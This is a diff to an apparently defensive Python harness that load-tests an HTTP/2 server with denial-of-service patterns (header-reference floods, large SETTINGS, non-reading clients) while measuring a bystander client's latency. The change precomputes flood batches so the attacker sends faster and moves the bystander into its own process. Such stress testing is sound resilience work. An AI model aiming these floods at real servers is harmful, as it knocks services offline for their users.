@@ -10,6 +10,8 @@ non-readers, whose point is not to; "closed after" is when the server ended the 
 
 from __future__ import annotations
 
+import multiprocessing
+import queue
 import socket
 import ssl
 import struct
@@ -201,7 +203,7 @@ def header_references(port: int, tls: bool, seconds: float, entry: int = 960) ->
     )
     scheme = b"\x87" if tls else b"\x86"
 
-    def batch(n: int) -> bytes:
+    def make(n: int) -> bytes:
         base = 3 + 200 * n
         return b"".join(
             frame(
@@ -217,7 +219,9 @@ def header_references(port: int, tls: bool, seconds: float, entry: int = 960) ->
             for sid in range(base, base + 200, 2)
         )
 
-    return flood(port, tls, seconds, first, batch, 100)
+    # Made before the flood, so that the attacker spends its time sending.
+    batches = [make(n) for n in range(1000)]
+    return flood(port, tls, seconds, first, lambda n: batches[n % len(batches)], 100)
 
 
 def large_settings(port: int, tls: bool, seconds: float) -> Outcome:
@@ -326,7 +330,8 @@ def non_readers(
 
 class Bystander:
     """A normal HTTP/2 client beside the attack: sequential GETs on one connection, each one's
-    latency in ms; a GET that gets no answer within `timeout` counts as that long and ends it."""
+    latency in ms; a GET that gets no answer within `timeout` counts as that long and ends it.
+    It runs in a process of its own, so that the attacker's Python does not delay it."""
 
     def __init__(self, port: int, tls: bool, timeout: float = 10.0) -> None:
         self.port = port
@@ -334,16 +339,26 @@ class Bystander:
         self.timeout = timeout
         self.latencies: list[float] = []
         self.failed = False
-        self._stop = threading.Event()
-        self.thread = threading.Thread(target=self._run, daemon=True)
+        context = multiprocessing.get_context("fork")
+        self._stop = context.Event()
+        self._results = context.Queue()
+        self.process = context.Process(target=self._child, daemon=True)
 
     def __enter__(self) -> Bystander:
-        self.thread.start()
+        self.process.start()
         return self
 
     def __exit__(self, *exc: object) -> None:
         self._stop.set()
-        self.thread.join(timeout=self.timeout + 2)
+        try:
+            self.latencies, self.failed = self._results.get(timeout=self.timeout + 5)
+        except queue.Empty:
+            self.failed = True
+        self.process.join(timeout=5)
+
+    def _child(self) -> None:
+        self._run()
+        self._results.put((self.latencies, self.failed))
 
     def _run(self) -> None:
         while not self._stop.is_set():
